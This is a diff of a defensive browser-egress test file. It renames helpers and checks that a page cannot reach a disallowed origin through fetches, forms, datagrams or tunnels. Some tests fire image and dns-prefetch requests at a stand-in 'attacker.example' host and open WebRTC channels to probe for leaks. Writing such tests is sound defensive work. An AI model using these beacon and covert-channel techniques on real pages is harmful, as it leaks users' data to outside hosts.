@@ -1,6 +1,6 @@
-"""Trial 16: a page that wants to tell somebody who is not allowed reaches nobody, by any of the ways that browsers have.
+"""A page cannot reach an origin that is not allowed, by any of the ways that browsers have.
 
-The canary counts connections, bytes and datagrams itself. The control: once it is allowed, the same page does reach it.
+The canary server counts connections, bytes and datagrams. As a control, the same page reaches it once it is allowed.
 """
 
 import asyncio
@@ -14,7 +14,7 @@ import pytest
 from playwright.async_api import Browser
 
 from midcourse.worlds.browser.egress.tls import Certificate
-from tests.worlds.browser.fenced import Fenced, chromium, fenced, until
+from tests.worlds.browser.guarded import Guarded, chromium, guarded, until
 from tests.worlds.browser.site import Answer, Asked, Site
 
 pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]
@@ -134,7 +134,7 @@ async def datagrams() -> AsyncGenerator[tuple[str, Datagrams]]:
         transport.close()
 
 
-async def try_everything(here: Fenced, site: Site, canary: Site, udp: str) -> None:
+async def try_everything(here: Guarded, site: Site, canary: Site, udp: str) -> None:
     where = f"const canary = {canary.url!r}, datagrams = {udp!r}, tcp = {urlsplit(canary.url).netloc!r};{ADD}{FORM}"
     for script in WAYS.values():
         await here.run(f"try {{ {where}{script} }} catch (refused) {{}}")
@@ -160,15 +160,15 @@ TELLING = {
 
 async def test_nothing_reaches_whoever_is_not_allowed(browser: Browser) -> None:
     async with attacked().served() as site, Site().served() as canary, datagrams() as (udp, received):
-        async with fenced(browser, site) as here:
+        async with guarded(browser, site) as here:
             here.outbox.attended = True  # nothing waits: what is stopped is stopped by the list alone
             await try_everything(here, site, canary, udp)
-            take_refused: set[str] = set()
+            refused: set[str] = set()
 
             def all_tried() -> bool:
-                take_refused.update(refusal.what for refusal in here.gate.take_refusals())
+                refused.update(refusal.what for refusal in here.proxy.take_refusals())
                 tunnel = f"CONNECT {urlsplit(canary.url).netloc}"
-                return paths(take_refused) >= TELLING and tunnel in take_refused
+                return paths(refused) >= TELLING and tunnel in refused
 
             await until(all_tried)
         assert (canary.connections, canary.received, received.received) == (0, 0, [])
@@ -176,7 +176,7 @@ async def test_nothing_reaches_whoever_is_not_allowed(browser: Browser) -> None:
 
 async def test_the_same_page_reaches_whoever_is_allowed(browser: Browser) -> None:
     async with attacked().served() as site, Site().served() as canary, datagrams() as (udp, received):
-        async with fenced(browser, site, {canary.url: {}}) as here:
+        async with guarded(browser, site, {canary.url: {}}) as here:
             here.outbox.attended = True
             await try_everything(here, site, canary, udp)
             await until(lambda: {*TELLING, "socket"} <= paths(asked.path for asked in canary.asked))
@@ -189,7 +189,7 @@ async def test_no_name_is_looked_up_by_the_browser_itself(tmp_path: Path) -> Non
     async with (
         chromium(Certificate(), f"--log-net-log={log}") as browser,
         attacked().served() as site,
-        fenced(browser, site) as here,
+        guarded(browser, site) as here,
     ):
         await here.run("new Image().src = 'http://4111.attacker.example/'")
         await here.run(ADD + "add('link', {rel: 'dns-prefetch', href: 'http://4111.attacker.example'})")
@@ -199,7 +199,7 @@ async def test_no_name_is_looked_up_by_the_browser_itself(tmp_path: Path) -> Non
             f"async () => {{ const c = {call}; c.createDataChannel('x'); await c.setLocalDescription();"
             "await new Promise(done => { c.onicegatheringstatechange = () => c.iceGatheringState === 'complete' && done() }) }"
         )
-        await until(lambda: any("4111" in refusal.what for refusal in here.gate.take_refusals()))
+        await until(lambda: any("4111" in refusal.what for refusal in here.proxy.take_refusals()))
     written = json.loads(log.read_text())
     names = {number: name for name, number in written["constants"]["logEventTypes"].items()}
     asked = [
